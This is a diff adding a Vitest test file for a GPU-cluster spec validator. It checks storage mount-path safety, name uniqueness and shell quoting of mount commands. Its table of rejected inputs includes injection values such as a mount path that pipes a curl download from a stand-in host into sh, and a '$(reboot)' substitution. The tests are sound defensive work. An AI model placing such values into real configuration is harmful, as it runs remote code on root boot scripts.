@@ -1,0 +1,91 @@
+/**
+ * A storage entry's mount path is a plain path outside the system directories (it reaches a root boot script and a
+ * pod spec), and its stable name, given or derived from the mount path, is unique.
+ */
+import { describe, expect, it } from "vitest";
+import { SpecError, planCluster, validate, type ClusterSpec } from "gpu-cluster";
+import { storageNameFromPath } from "../lib/spec/storage-identity.js";
+import { mountLines, shellQuote } from "../lib/clouds/shared/bootstrap.js";
+
+const train: ClusterSpec = { cloud: "aws", region: "us-east-1", gpu: { model: "H100", count: 64 } };
+const nfs = (extra: Record<string, unknown>) => ({ ...train, storage: [{ kind: "nfs", capacityTiB: 1, ...extra }] });
+
+/** [what is wrong, the spec, the field the error must name, a phrase the message must contain] */
+const BAD: [string, unknown, string, RegExp][] = [
+  ["a shell command in the mount path", nfs({ mountPath: "/data; curl https://x.example/i | sh #" }), "storage[0].mountPath", /not a plain absolute path/],
+  ["command substitution", nfs({ mountPath: "/data$(reboot)" }), "storage[0].mountPath", /not a plain absolute path/],
+  ["a quote", nfs({ mountPath: "/data'" }), "storage[0].mountPath", /not a plain absolute path/],
+  ["a space", nfs({ mountPath: "/my data" }), "storage[0].mountPath", /not a plain absolute path/],
+  ["a relative path", nfs({ mountPath: "data" }), "storage[0].mountPath", /not a plain absolute path/],
+  ["a parent segment", nfs({ mountPath: "/data/../etc" }), "storage[0].mountPath", /not a plain absolute path/],
+  ["a trailing slash", nfs({ mountPath: "/data/" }), "storage[0].mountPath", /not a plain absolute path/],
+  ["the root", nfs({ mountPath: "/" }), "storage[0].mountPath", /not a plain absolute path/],
+  ["/etc", nfs({ mountPath: "/etc" }), "storage[0].mountPath", /hide the system directory \/etc/],
+  ["below /usr", nfs({ mountPath: "/usr/local/nvidia" }), "storage[0].mountPath", /hide the system directory \/usr/],
+  ["NCCL's shared memory", nfs({ mountPath: "/dev/shm" }), "storage[0].mountPath", /hide the system directory \/dev/],
+  ["/tmp itself", nfs({ mountPath: "/tmp" }), "storage[0].mountPath", /hide the system directory \/tmp/],
+  ["an over-long path", nfs({ mountPath: `/${"a".repeat(300)}` }), "storage[0].mountPath", /300|301 characters/],
+  ["a name with capitals", nfs({ name: "Datasets" }), "storage[0].name", /cannot name storage resources/],
+  ["a name ending in a hyphen", nfs({ name: "data-" }), "storage[0].name", /cannot name storage resources/],
+  ["an over-long name", nfs({ name: "a".repeat(25) }), "storage[0].name", /at most 24 characters/],
+  ["deletionProtection not a boolean", nfs({ deletionProtection: "no" }), "storage[0].deletionProtection", /true or false/],
+  [
+    "two buckets on the default path",
+    { ...train, storage: [{ kind: "object", capacityTiB: 1 }, { kind: "object", capacityTiB: 2 }] },
+    "storage[1].name",
+    /'mnt-object' \(from mountPath '\/mnt\/object'\) is already the name of storage\[0\]/,
+  ],
+  [
+    "one name twice",
+    { ...train, storage: [{ kind: "nfs", capacityTiB: 1, name: "data" }, { kind: "object", capacityTiB: 2, name: "data" }] },
+    "storage[1].name",
+    /'data' is already the name of storage\[0\]/,
+  ],
+];
+
+describe("storage identity and mount paths", () => {
+  it.each(BAD)("%s is a SpecError naming its field", (_what, spec, path, message) => {
+    let caught: unknown;
+    try {
+      validate(spec as ClusterSpec);
+    } catch (err) {
+      caught = err;
+    }
+    expect(caught).toBeInstanceOf(SpecError);
+    expect((caught as SpecError).path).toBe(path);
+    expect((caught as SpecError).message).toMatch(message);
+    expect((caught as SpecError).hint).not.toBe("");
+  });
+
+  it("names each entry after its mount path, or the name it is given, never its position", () => {
+    const plan = planCluster({
+      ...train,
+      storage: [
+        { kind: "object", capacityTiB: 1 },
+        { kind: "nfs", capacityTiB: 1, mountPath: "/data" },
+        { kind: "nfs", capacityTiB: 1, mountPath: "/mnt/Check_Points.v2" },
+        { kind: "object", capacityTiB: 1, mountPath: "/mnt/object2", name: "checkpoints" },
+        { kind: "nfs", capacityTiB: 1, mountPath: "/home", deletionProtection: false },
+      ],
+    });
+    expect(plan.storage.map((s) => s.name)).toEqual(["mnt-object", "data", "mnt-check-points-v2", "checkpoints", "home"]);
+    expect(plan.storage.map((s) => s.deletionProtection)).toEqual([true, true, true, true, false]);
+  });
+
+  it("keeps long derived names within 24 characters and apart by a hash of the whole path", () => {
+    const a = storageNameFromPath("/mnt/training-data/checkpoints/run-a");
+    const b = storageNameFromPath("/mnt/training-data/checkpoints/run-b");
+    expect(a).toMatch(/^mnt-training-da-[0-9a-f]{8}$/);
+    expect(a).toHaveLength(24);
+    expect(a).not.toBe(b);
+    expect(storageNameFromPath("/1")).toBe("s-1");
+  });
+
+  it("quotes every word a mount line takes from outside, and fails the bootstrap loudly when the mount fails", () => {
+    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
+    expect(mountLines({ type: "nfs4", options: "hard", source: "fs-1.efs.us-east-1.amazonaws.com:/", mountPath: "/data" })).toEqual([
+      "mkdir -p '/data'",
+      "mount -t nfs4 -o hard 'fs-1.efs.us-east-1.amazonaws.com:/' '/data' || fail 'nfs4 mount of fs-1.efs.us-east-1.amazonaws.com:/ at /data failed'",
+    ]);
+  });
+});
